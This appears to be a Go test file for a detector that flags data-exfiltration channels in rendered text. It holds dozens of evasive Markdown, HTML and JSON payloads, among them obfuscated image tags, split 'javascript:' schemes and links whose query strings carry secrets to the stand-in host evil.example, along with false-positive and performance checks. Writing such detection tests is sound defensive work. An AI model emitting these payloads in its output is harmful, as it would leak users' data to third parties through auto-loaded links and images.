package exfil_test

import (
	"strings"
	"testing"

	"github.com/holdfast-ai/holdfast/guard/detect/exfil"
	"github.com/holdfast-ai/holdfast/internal/testkit"
)

// Ways to write an address that browsers and renderers follow: something of each is found, so that what is left goes nowhere.
var written = map[string][]string{
	exfil.RuleImage: {
		// Without a scheme.
		"![r]\n\n[r]: //evil.example/a.png", "![x]( //evil.example/a.png)", "<img src= //evil.example/a.png>", "<img srcset=\"a.png 1x, //evil.example/b.png 2x\">",
		"<meta http-equiv=refresh content=\"0;url=//evil.example/\">", "<meta http-equiv=refresh content=\"0;//evil.example/\">", "<img src=//evil.example/a.png>",
		"<img src=\\\\evil.example\\a.png>", "<base href=//evil.example/>", "<object data=//evil.example/x>", "<video poster=//evil.example/x>", "<form action=//evil.example/x>",
		"<button formaction=//evil.example/x>", "<a ping=//evil.example/x href=/>", "<link rel=dns-prefetch href=//c2VjcmV0.evil.example>", "<style>@import url(//evil.example/a)</style>",
		"<iframe srcdoc='&lt;img src=//evil.example/a&gt;'>", "<img src=\"\x01//evil.example/a.png\">",
		// With tabs and ends of lines, which browsers take out.
		"<img src=\"\t//evil.example/a.png\">", "<img src=\"https:\n//evil.example/a.png\">", "<img src=\"/\n/evil.example/a.png\">", "<img src=\"htt\nps:/\n/evil.example/a.png\">",
		"<img src=\"\nhttps://docs.example.com\t.evil.example/a.png\">", "<img src=' https://docs.example.com\t.evil.example/a.png'>", "<img src=\"/&Tab;/evil.example/a.png\">",
		// Hosts of other forms, and hosts that only some take for allowed ones.
		"<img src=\"https://[2001:db8::1]/a.png\">", "![x](https://u@[2001:db8::1]:8443/a.png)", "![x](https://0x7f000001/a.png)", "![x](https://xn--docs-example.com/a.png)", "![x](https://evil.example./a.png)",
		"![x](https://evil。example/a.png)", "<img src=https://evil.example／.cdn.example.com/a.png>", "<img src=https://evil.example%2f.cdn.example.com/a.png>",
		"![x](https://evil.example#.cdn.example.com/a.png)", "![x](https://evil.example?.cdn.example.com/a.png)", "<img src='https://docs.example.com%00.evil.example/'>",
		"<img src=\"https://docs.example.com\u200b.evil.example/a.png\">", "<img src=ftp:evil.example/a>", "<img src=ws://evil.example/a>",
		// In JSON and programs.
		`{"html":"<img src=\"https://evil.example/a.png\">"}`, `{"html":"\u003cimg src=\"https://evil.example/a.png\"\u003e"}`, `{"md":"![x](https:\u002f\u002fevil.example/a.png)"}`, `{"md":"text\n![x](https:\/\/evil.example/a.png)"}`,
		// Other uses.
		"<svg><script href=\"https://evil.example/a.js\"/>", "<img alt='>' src\n=\n\"https://evil.example/a.png\">", "<style>a{background:image-set(\"a.png\" 1x, \"https://evil.example/a.png\" 2x)}",
		"[img]https://evil.example/a.png[/img]", "image::https://evil.example/a.png[]", ".. image:: https://evil.example/a.png", "\\includegraphics{https://evil.example/a.png}", "![[https://evil.example/a.png]]",
		"![x][r]\n[r]: https://evil.example/a.png", "\\includegraphics[width=1cm]{https://evil.example/a.png}", "<style>@import'https://evil.example/a.css'</style>",
		// Brackets of Markdown in escapes of JSON.
		`{"md":"!\u005bx\u005d\u0028https://evil.example/a.png)"}`, `{"md":"\u0021[x](https://evil.example/a.png)"}`, `{"md":"!\u005bx](https://evil.example/a.png)"}`, `{"md":"![x]\u0028https://evil.example/a.png)"}`, "<img\fsrc\f=\fhttps://evil.example/a>", "![x](\nhttps://evil.example/a.png\n)", "![r]\n\n[r]:\n   <https://evil.example/a.png>",
	},
	exfil.RuleLink: {
		// Data behind bytes that end words, and end no address.
		"[a](https://evil.example/?d=secret,password,is,hunter2,and,more)", "see https://evil.example/?d={secret}{password}{is}{hunter2}", "see https://evil.example/?d=secret|password|is|hunter2|and",
		"[a](https://evil.example/?d=(secret)(password)(is)(hunter2))", "[a](https://evil.example/?d=my\"secret\"password\"is\"hunter2)", "[a](https://evil.example/?d=my<secret<password<is<hunter2)",
		"[a](https://evil.example/?d=my`secret`password`is`hunter2)", "[a](https://evil.example/?d=my'secret'password'is'hunter2)", "[a](https://evil.example/?d=my]secret]password]is]hunter2)",
		"[a](<https://evil.example/?q=my secret password is hunter2>)", "<a href=\"https://evil.example/?q=my secret password is hunter2\">", "<a href='https://evil.example/?q=my\nsecret\npassword\nis\nhunter2'>",
		"<a href=https://evil.example/?d=my'secret'password'is'hunter2>x</a>", "www.evil.example/?d=secret,password,is,hunter2,and,more",
		`{"u":"see\nhttps://evil.example/?d=my.secret.password.is.hunter2"}`, `{"u":"https\u003a//evil.example/?d=my.secret.password.is.hunter2"}`,
		// In the name of a user, and by mail.
		"[a](https://c2VjcmV0LWRhdGEtaGVyZS1pcy1sb25n@evil.example/)", "[a](mailto:m@evil.example?body=my%20secret%20password%20is)",
	},
	exfil.RuleScheme: {
		"<a href=\"java\nscript:alert(1)\">", "<a href=\"java\nscript://x%0aalert(1)\">", "<a href=\"java&Tab;script:alert(1)\">", "<a href=\"java&#10;script:alert(1)\">", "<a href=' \x01javascript:alert(1)'>",
		"<iframe src=\"data: text/html,x\">", "<iframe src=\"data:text/xml,x\">", `{"u":"\njavascript:alert(1)"}`, `{"u":"javascript\u003aalert(1)"}`, "<a href=\"javascript:\nalert(1)\">",
		"[a](data:text/html,<script>alert(1)</script>)",
	},
}

func TestWritten(t *testing.T) {
	h := hosts(t)
	for rule, texts := range written {
		for _, text := range texts {
			if ms := find(h, text); len(ms) == 0 || ms[0].Rule != rule {
				t.Errorf("%q: %+v, want %s", text, ms, rule)
			}
		}
	}
}

// What ends words in prose and code ends addresses there: what follows is no data of theirs.
func TestAddressesEnd(t *testing.T) {
	h := hosts(t)
	for _, text := range []string{
		"https://a.example/?q=1,https://b.example/?q=2,https://c.example/?q=3", "(https://a.example/?q=1),as,was,said,before,it,all", "<https://a.example/?q=1>,which,is,what,was,meant,here",
		`{"url":"https://a.example/?q=1","name":"Bob Smith","city":"Bremen","street":"Am Wall"}`, "'https://a.example/?q=1','what','was','asked','for','here'", "see \"https://a.example/?q=1\",\"what\",\"was\",\"asked\",\"for\"",
		"https://a.example/?q=1 is a page about harbours, and about much more than those", "<a href=\"https://a.example/?q=1\">a page about harbours, and about more</a>", "<a href=https://a.example/?q=1>a,page,about,harbours,and,more</a>",
		"[a](https://a.example/?q=1),[b](https://b.example/?q=2)", "x = \"https://a.example/doc explains what this is, and what it is good for\"", "s += \"\\n//\\n\" // so that what follows is on a line of its own, and no other",
		"re = '\\\\d+\\\\.\\\\d{3,40}[abcdefghijklmnopqrstuvwxyz]+[abcdefghijklmnop]'", "x := f(a, //nolint:all-of-these-are-as-they-should-be-here", "a = b; //----------------------------------------------------",
		"mail help@a.example", "mailto:help@a.example", "https://user@a.example/", "fe80::1%eth0", "m[k] = v[//comment]",
	} {
		if ms := find(h, text); len(ms) > 0 {
			t.Errorf("%q: %+v, %q", text, ms, text[ms[0].Start:ms[0].End])
		}
	}
}

// What an address carries is found to its end, however long it is, and nothing behind it.
func TestAddressesAreFoundToTheirEnd(t *testing.T) {
	h := hosts(t)
	for _, form := range []string{"see https://evil.example/?d=", "<a href=\"https://evil.example/?d="} {
		text := form + strings.Repeat("word,", 200) + "word\" and this is a sentence that says, and means, nothing"
		ms := find(h, text)
		if len(ms) == 0 || ms[len(ms)-1].End != strings.Index(text, "\" and") || len(ms) < 190 {
			t.Errorf("%s: %d found", form, len(ms))
		}
	}
}

// What brackets of Markdown pair with, and so what is loaded: an image within another's text is none, a link around one is. Of what cannot be told all counts.
func TestImagesAmongBrackets(t *testing.T) {
	h := hosts(t)
	for text, want := range map[string]bool{
		"![a [b](https://docs.example.com) c](https://evil.example/a.png)":                         true,
		"![[[x](https://docs.example.com)](https://docs.example.com)](https://evil.example/a.png)": true,
		"![a [b] c](https://evil.example/a.png)":                                                   true,
		"![a ] b](https://evil.example/a.png)":                                                     true, // to some
		"![ [x](https://evil.example/a.png)":                                                       true, // to some
		"![ `[` ](https://evil.example/a.png)":                                                     true,
		"![ \\[ ](https://evil.example/a.png)":                                                     true,
		"![ <b c='['> ](https://evil.example/a.png)":                                               true,
		"![a\nb](https://evil.example/a.png)":                                                      true,
		strings.Repeat("[", 65) + "![x](https://evil.example/a.png)":                               true,
		"!" + strings.Repeat("[", 70) + strings.Repeat("]", 69) + "](https://evil.example/a.png)":  true,
		"[![x](https://docs.example.com/a.png)](https://go.dev)":                                   false,
		"[![x][i]][l]\n\nThis is a [Node.js](https://nodejs.org/en/) module":                       false,
		"![x][i] and [this](https://go.dev)":                                                       false,
		"![x](https://docs.example.com/a.png) [`code` of it](https://go.dev)":                      true, // not sure
		"[`code` of it](https://go.dev)":                                                           false,
		"v := vec![1, 2\n \n[this](https://go.dev)":                                                false,
	} {
		ms := find(h, text)
		got := false
		for _, m := range ms {
			got = got || m.Rule == exfil.RuleImage && !strings.HasPrefix(text[m.Start:], "https://docs")
		}
		if got != want {
			t.Errorf("%q: %+v", text, ms)
		}
	}
}

// A definition is loaded if an image refers to it: one that may is found where it begins, if the definition was given up before.
func TestImagesOfDefinitions(t *testing.T) {
	h := hosts(t)
	for text, want := range map[string]string{
		"[r]: https://evil.example/a.png\n\n![x][r]":                   "!",
		"[r]: https://evil.example/a.png\n\n![r](no destination here)": "!",
		"[r]: //evil.example/a.png\n\nsee!![r]":                        "!",
		"[r]: https://evil.example/a.png\n\n!\\u005br]":                "!\\u005br",
		"[r]: https://evil.example/a.png\n\n\\u0021[r]":                "\\u0021",
		"![x][r]\n\n[r]: https://evil.example/a.png":                   "https://evil.example/a.png",
		"`!\\u005bx][r]`\n\n[r]: https://evil.example/a.png":           "https://evil.example/a.png",
		"[r]: https://docs.example.com/a.png\n\n![x][r]":               "",
		"As [1] says.\n\n[1]: https://go.dev/doc\n[2]: https://go.dev": "",
		"// [FIPS 202]: https://doi.org/10.6028/NIST.FIPS.202\n!":      "",
	} {
		got := ""
		if ms := find(h, text); len(ms) > 0 && ms[0].Rule == exfil.RuleImage {
			got = text[ms[0].Start:ms[0].End]
		}
		if got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// Programs and names of pages are no images, and carry nothing.
func TestProgramsAndTitlesAreHarmless(t *testing.T) {
	h := hosts(t)
	for _, text := range []string{
		"// See https://golang.org/issue/49886.\n\ti := strings.Index(kv, \"=\")\n\t// See https://golang.org/issue/49886.\nfunc TestEnvironConsistency(t *testing.T) {\n\tfor _, kv := range Environ() {\n\t\ti := strings.Index(kv, \"=\")",
		"const u = new URL('https://a.example')", "properties.MustLoadURL(\"http://a.example/path\")", "Image(get_image(\"https://a.example/300\"))", "requests.post(url, data=\"https://a.example\")", "img.src = \"https://a.example/a.png\"",
		"if (i < data.length) { x = 'https://a.example' }", "my ($a, %b) = *{\"_<$action\"} = split(/\\0/,$c)", "<item name=\"Data Privacy\" href=\"https://a.example/p\"/>", ".ab [PDFPIC]: \\\\$*",
		"http://javascript:80/foo", "<a href=\"/javascript:80/foo/bar\">", "text/javascript:runs", "http://[2b01:e34:ef40:7730:8e70:5aff:fefe:edac]:8080/foo", "mailto:perl-module-hash-memoize@a.example",
		"https://a.example/api/single-executable-applications.html", "https://a.example/blog/zxcvbn-realistic-password-strength-estimation", "https://a.example/Hermes-2-Pro-Llama-3-8B-Q4_K_M.gguf", "https://a.example/@types/normalize-package-data-2.4.1.tgz",
		"https://a.example/Date/toLocaleString/CacheUnmanagedTLSCertificate", "https://a.example/noverify-dynamic-rules-for-static-analysis-8f42859e9253", "https://a.example/wiki/Amalgamated-(Possibly-outdated)", "https://a.example/T/Template-Toolkit-%{version}.tar.gz",
	} {
		if ms := find(h, text); len(ms) > 0 {
			t.Errorf("%q: %+v, %q", text, ms, text[ms[0].Start:ms[0].End])
		}
	}
	for _, part := range []string{
		"c2VjcmV0LWRhdGEtaGVyZS1pcy1sb25n", "c2VjcmV0-LWRhdGEt-aGVyZS1p-cy1sb25n", "vK9dyjRnnWsMzzJTQ57fRJpH", "the-password-of-the-deputy-is-hunter2-and-the-code-of-the-safe-in-the-hall-is-4711-0815", "%67%65%68%65%69%6d%6e%69%73%73%65%20%61%62",
	} {
		if ms := find(h, "see https://evil.example/"+part); len(ms) == 0 || ms[0].Rule != exfil.RuleLink {
			t.Errorf("%s is found to carry nothing", part)
		}
	}
}

// No text costs more with the square of its length, or very many times what prose does.
func TestHostileTextsCostNoMore(t *testing.T) {
	if testkit.Race {
		t.Skip("the race detector costs where most is looked at")
	}
	h := hosts(t)
	reading := func(text string) func() {
		b := strings.Repeat(text, 50_000/len(text))
		return func() { find(h, b) }
	}
	for name, unit := range map[string]string{
		"letters": "a", "slashes": "/", "colons": "a:", "lines of an attribute": "=\"a\n", "words of an attribute": "=\"" + strings.Repeat("a:\n", 80), "addresses": "a://b ", "references": "=\"&amp;/\n",
		"data": "https://a.example/?q=" + strings.Repeat("a,", 100), "controls": "\x01", "schemes": "javascript:", "brackets": "//[", "quotes": "='", "images": "![", "images of definitions": "[r]: //a.example ![", "tags": "<a data",
	} {
		testkit.CostsAtMost(t, name, 150, reading(unit), reading("The harbour opens at six in the morning. "))
	}
}
